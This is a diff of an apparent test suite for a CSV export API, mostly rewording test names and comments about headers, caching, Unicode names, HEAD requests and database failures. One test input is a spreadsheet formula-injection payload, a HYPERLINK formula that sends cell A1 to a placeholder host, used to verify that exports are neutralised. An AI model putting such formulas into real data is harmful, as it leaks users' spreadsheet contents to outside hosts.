@@ -74,7 +74,7 @@ describe('the file', () => {
     );
   });
 
-  it('is an attachment of that day that nobody stores', async () => {
+  it('is a dated attachment that is never cached', async () => {
     const { headers } = await download().expect(200);
 
     const day = new Date().toISOString().slice(0, 10);
@@ -87,13 +87,13 @@ describe('the file', () => {
     expect(headers).not.toHaveProperty('etag');
   });
 
-  it('has a head line when there is nothing to tell', async () => {
+  it('has only a header line without records', async () => {
     const { text } = await download().expect(200);
 
     expect(text).toBe(`${BOM}"name","email","grad_year","message","created_at"\r\n`);
   });
 
-  it('brings every name and every word back, and no formula', async () => {
+  it('preserves every name and text, and contains no formula', async () => {
     const names = ['نور الهدى', '山田 太郎', 'Zoë 🏌️‍♀️', 'Seán "Jack" O’Hara', 'a,b;c', "O'Neill"];
     for (const name of names) await createApplication({ name });
     const formula = '=HYPERLINK("https://x.example?"&A1,"click")\r\nsecond line';
@@ -126,7 +126,7 @@ describe('the file', () => {
     );
   });
 
-  it('is not written for who only asks about it', async () => {
+  it('is not written for a HEAD request', async () => {
     const { headers, text } = await request(server)
       .head('/api/applications/export')
       .set('Authorization', admin.bearer)
@@ -137,9 +137,9 @@ describe('the file', () => {
   });
 });
 
-it('is refused as anything else is when the database dies before the first row', async () => {
+it('answers an ordinary error when the database fails before the first row', async () => {
   await storeMany(1, 'x');
-  // It dies when the caller is known and the first row is asked for.
+  // It fails after the caller is known, when the first row is read.
   const asked = new Promise<void>((resolve) => {
     mongoose.set('debug', (collection: string, method: string) => {
       if (collection === 'applications' && method === 'find') resolve(link.cut());
@@ -155,8 +155,8 @@ it('is refused as anything else is when the database dies before the first row',
   expect(Number(response.headers['retry-after'])).toBeGreaterThan(0);
 });
 
-it('is broken off when the database dies in the middle', async () => {
-  // More than any buffer on the way holds.
+it('is aborted when the database fails in the middle', async () => {
+  // More than all buffers on the way can hold.
   await storeMany(3000, 'x'.repeat(10_000));
   const { port } = server.address() as AddressInfo;
   const headers = { Authorization: admin.bearer };
